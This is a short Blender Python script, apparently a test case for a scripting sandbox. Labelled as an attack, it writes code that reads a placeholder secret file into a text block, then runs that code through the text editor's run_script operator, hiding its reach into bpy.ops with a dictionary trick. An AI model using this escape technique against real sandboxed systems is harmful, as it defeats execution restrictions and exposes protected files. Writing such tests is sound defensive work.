# attack: a text block with code, run by text.run_script in a text editor
# family: operators
import bpy

texts = bpy.data.path_resolve("texts")
block = texts.new("code.py")
block.write("import bpy\nbpy.context.scene['found'] = open('$SECRET_FILE').read()\n")
print("REACHED", block)
area = bpy.context.screen.areas[0]
area.type = "TEXT_EDITOR"
area.spaces.active.text = block
with bpy.context.temp_override(area=area, region=area.regions[-1], edit_text=block):
    {**{"o": bpy.ops}}["o"].text.run_script()
print("ESCAPED", bpy.context.scene["found"])
